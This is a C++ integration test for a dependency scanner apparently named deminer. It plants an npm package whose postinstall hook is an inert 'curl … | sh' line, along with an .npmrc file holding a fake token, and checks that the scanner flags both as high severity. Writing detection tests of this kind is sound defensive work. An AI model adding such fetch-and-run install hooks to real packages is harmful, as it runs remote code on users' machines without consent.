// The npm scope on a real project: packages installed from the registry npm's
// config names (with --ignore-scripts: nothing they ship runs), a local file:
// package whose postinstall is an inert curl|sh line, and an .npmrc with a
// literal token. The scan must rate the planted script high, report the
// token without ever printing it, and leave the real packages below high.
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "harness.h"

namespace deminer::it {
namespace {

namespace fs = std::filesystem;

void Write(const std::string& path, const std::string& text) {
  fs::create_directories(fs::path(path).parent_path());
  std::ofstream(path) << text;
}

std::string Trimmed(std::string s) {
  while (!s.empty() && (s.back() == '\n' || s.back() == '\r' || s.back() == ' ')) s.pop_back();
  return s;
}

TEST(NpmProjectTest, PlantedInstallScriptAndTokenAreFoundRealPackagesStayBelowHigh) {
  if (RunCommand({"npm", "--version"}).exit_code != 0) GTEST_SKIP() << "npm is not installed";
  const std::string registry = Trimmed(RunCommand({"npm", "config", "get", "registry"}).out);
  if (registry.empty()) GTEST_SKIP() << "npm names no registry";

  TempDir dir;
  const std::string app = dir / "app";
  Write(app + "/package.json", R"({"name":"it-npm-app","version":"1.0.0","private":true})");
  // Inert: installed with --ignore-scripts, and deminer never runs what it reads.
  Write(
      dir / "local-dropper/package.json",
      R"({"name":"local-dropper","version":"1.0.0","scripts":{"postinstall":"curl -s http://127.0.0.1:9/x | sh"}})");
  const CommandResult install =
      RunCommand({"npm", "--prefix", app, "install", "--ignore-scripts", "--no-audit", "--no-fund",
                  "--registry", registry, "is-number@7.0.0", "ms@2.1.3", "once@1.4.0",
                  "file:" + (dir / "local-dropper")});
  if (install.exit_code != 0)
    GTEST_SKIP() << "the registry (" << registry
                 << ") did not answer: " << install.err.substr(0, 500);
  ASSERT_TRUE(fs::exists(app + "/node_modules/is-number/package.json"));
  ASSERT_TRUE(fs::exists(app + "/package-lock.json"));
  // Written after the install, so npm never sends it anywhere.
  const std::string token = "npm_ITSECRET0123456789abcdefTOKEN";
  Write(app + "/.npmrc", "//mirror.corp.test/:_authToken=" + token + "\n");

  const CommandResult r =
      RunDeminer({"scan", app, "--only", "npm", "--format", "json", "--rules", MachineRulesDir()});
  ASSERT_NE(r.exit_code, 2) << r.err;
  EXPECT_EQ(r.out.find(token), std::string::npos);
  EXPECT_EQ(r.err.find(token), std::string::npos);
  const nlohmann::json scan = nlohmann::json::parse(r.out, nullptr, false);
  ASSERT_FALSE(scan.is_discarded()) << r.out.substr(0, 500);

  const auto planted = FindingsOf(scan, "npm.install-script", "local-dropper@1.0.0");
  ASSERT_EQ(planted.size(), 1u) << scan.dump(2).substr(0, 3000);
  EXPECT_EQ(planted[0]["severity"], "high");
  EXPECT_NE(planted[0].dump().find("curl -s http://127.0.0.1:9/x | sh"), std::string::npos);
  EXPECT_EQ(planted[0]["evidence"]["via"], nlohmann::json::array({"local-dropper@1.0.0"}));

  const auto tokens = FindingsOf(scan, "npm.npmrc-token", app + "/.npmrc");
  ASSERT_EQ(tokens.size(), 1u);
  EXPECT_EQ(tokens[0]["severity"], "high");

  // The scripts check names the project; the real packages are in the graph
  // (the lockfile-source check sees them: none of them is flagged).
  EXPECT_EQ(FindingsOf(scan, "npm.npmrc-scripts", app).size(), 1u);
  // Only this project's findings: node processes running on this host are
  // scanned too.
  for (const auto& f : scan["findings"]) {
    if (!f.contains("evidence") || f["evidence"].value("project", "") != app) continue;
    const std::string subject = f["subject"];
    const bool planted_one =
        subject.find("local-dropper") != std::string::npos || f["check"] == "npm.npmrc-token";
    if (planted_one) continue;
    EXPECT_NE(f["severity"], "high") << f.dump();
    EXPECT_NE(f["severity"], "critical") << f.dump();
  }
}

}  // namespace
}  // namespace deminer::it
